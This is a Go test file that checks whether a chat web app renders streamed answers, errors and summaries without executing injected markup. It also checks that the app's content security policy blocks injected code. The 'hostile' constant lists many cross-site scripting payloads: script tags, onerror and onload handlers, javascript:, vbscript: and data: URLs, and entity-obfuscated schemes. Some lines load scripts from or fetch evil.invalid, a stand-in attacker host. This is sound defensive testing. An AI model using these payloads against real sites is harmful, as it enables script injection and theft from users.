package browser

import (
	"strings"
	"testing"

	"sse-typewriter/internal/testenv"
)

// hostile is an answer full of markup that tries to become active.
const hostile = `<img src=x onerror="pwned('img')"><script>pwned("script")</script>

<svg/onload=pwned("svg")> <iframe src="javascript:pwned('iframe')"></iframe> <a href="javascript:pwned('a')">click</a>

<div style="position:fixed;inset:0">cover</div><style>*{display:none}</style><base href="https://evil.invalid/">

[one](javascript:pwned("link")) [two](JaVaScRiPt:pwned("case")) [three](java&#10;script:pwned("entity)) [four](data:text/html,<script>pwned("data")</script>)
<javascript:pwned("auto")> [five](vbscript:pwned("vb")) [six](//evil.invalid/x) [safe](https://example.com/?a=1)

![image](https://evil.invalid/image.png) ![](javascript:pwned("image")) [![in link](https://evil.invalid/b.png)](https://example.com/)

` + "```html\n<script>pwned(\"code\")</script>\n```\n\n`<img src=x onerror=pwned(1)>`\n\n" + `| a<script>pwned("table")</script> |
|:-:|
| <img src=x onerror=pwned("cell")> |

&lt;img src=x onerror=pwned("entities")&gt; "><script>pwned("quote")</script> </textarea></div></main><script>pwned("close")</script>
`

// An answer is never interpreted as HTML: not while it is typed, not in thoughts, suggestions, errors or the result of a summary.
func TestHostileText(t *testing.T) {
	t.Parallel()
	u := newUpstream(t, func(c *chat) {
		c.think(hostile)
		for part := range strings.SplitSeq(hostile, ">") {
			c.say(part, ">")
		}
		c.end(hostile)
	})
	p := open(t, testenv.Start(t, "--upstream="+u.URL).Base, "/")
	eval[bool](p, `(window.called = [], window.pwned = what => called.push(what), true)`)
	p.choose("speed", "10")
	p.ask(hostile)
	p.untilState("done")
	p.until("it is formatted", messages+`.querySelector(".formatted table")`)
	p.checkHarmless()
	for _, text := range []string{`<script>pwned("script")</script>`, `<svg/onload=pwned("svg")>`, `<base href="https://evil.invalid/">`, `<img src=x onerror=pwned("entities")>`, `</textarea></div></main><script>pwned("close")</script>`} {
		if got := p.answerText(); !strings.Contains(got, text) {
			t.Errorf("%s is missing in %q", text, got)
		}
	}
	if n := eval[int](p, `[...`+messages+`.querySelectorAll("a[href]")].filter(a => !a.href.startsWith("https://")).length`); n != 0 {
		t.Errorf("%d links are not safe", n)
	}
	for _, word := range []string{"one", "two", "three", "four", "five", "six"} {
		if !eval[bool](p, messages+`.textContent.includes("`+word+`") && ![...`+messages+`.querySelectorAll("a")].some(a => a.textContent === "`+word+`")`) {
			t.Errorf("%s is a link", word)
		}
	}
	if !eval[bool](p, `[...`+messages+`.querySelectorAll("a")].every(a => a.rel.includes("noopener") && a.target === "_blank")`) {
		t.Error("a link tells where it was followed")
	}
	p.click(".answer .suggestions button") // asks it
	p.until("it is formatted again", `document.querySelectorAll(".formatted table").length === 2`)
	p.checkHarmless()
}

func TestHostileProblem(t *testing.T) {
	t.Parallel()
	u := newUpstream(t, func(c *chat) {
		c.send("error", map[string]any{"code": 1, "msg": hostile})
	})
	base := testenv.Start(t, "--upstream="+u.URL).Base
	p := open(t, base, "/")
	eval[bool](p, `(window.called = [], window.pwned = what => called.push(what), true)`)
	p.ask("x")
	p.untilState("failed")
	p.checkHarmless()
}

func TestHostileSummary(t *testing.T) {
	t.Parallel()
	u := newUpstream(t, func(c *chat) {
		c.say(hostile)
		c.end()
	})
	p := open(t, testenv.Start(t, "--upstream="+u.URL).Base, "/progress")
	eval[bool](p, `(window.called = [], window.pwned = what => called.push(what), true)`)
	p.write(hostile)
	p.click("#send")
	p.untilState("done")
	p.until("it is formatted", `document.querySelector("#result table")`)
	p.checkHarmless()
}

// checkHarmless checks that the page has only its own elements. A violation of its
// content security policy is an error of its own.
func (p *page) checkHarmless() {
	p.t.Helper()
	if called := eval[[]string](p, "called"); len(called) > 0 {
		p.t.Errorf("scripts ran: %q", called)
	}
	const foreign = `[...document.querySelectorAll("main :is(img, script, svg, iframe, style, base, object, embed, [style*=url], [style]:not(#fill, .katex *), [onerror], [onload])")].map(e => e.outerHTML)`
	if got := eval[[]string](p, foreign); len(got) > 0 {
		p.t.Errorf("in the page is %q", got)
	}
	if got := p.sent("evil"); len(got) > 0 {
		p.t.Errorf("requests %q", got)
	}
}

// A compromised server cannot make the page run code from an answer: the page builds
// only elements that it knows, and its policy is a second barrier.
func TestPolicy(t *testing.T) {
	t.Parallel()
	p := open(t, testenv.Start(t).Base, "/")
	p.expect("forbidden:")
	p.expect("This document requires 'Trusted")
	p.expect("violates the")
	for _, try := range []string{
		`document.body.insertAdjacentHTML("beforeend", "<b>x</b>")`,
		`document.body.innerHTML = "<b>x</b>"`,
		`document.createElement("b").setAttribute("onclick", "1")`,
		`(() => { const s = document.createElement("script"); s.src = "https://evil.invalid/x.js"; document.body.append(s); })()`,
	} {
		if got := eval[string](p, `(() => { try { `+try+`; return "allowed"; } catch { return "forbidden"; } })()`); got != "forbidden" {
			t.Errorf("%s is %s", try, got)
		}
	}
	if got := eval[string](p, `fetch("https://evil.invalid/").then(() => "allowed", () => "forbidden")`); got != "forbidden" {
		t.Errorf("a request to someone else is %s", got)
	}
	if got := p.sent("evil"); len(got) > 0 {
		t.Errorf("requests %q", got)
	}
}
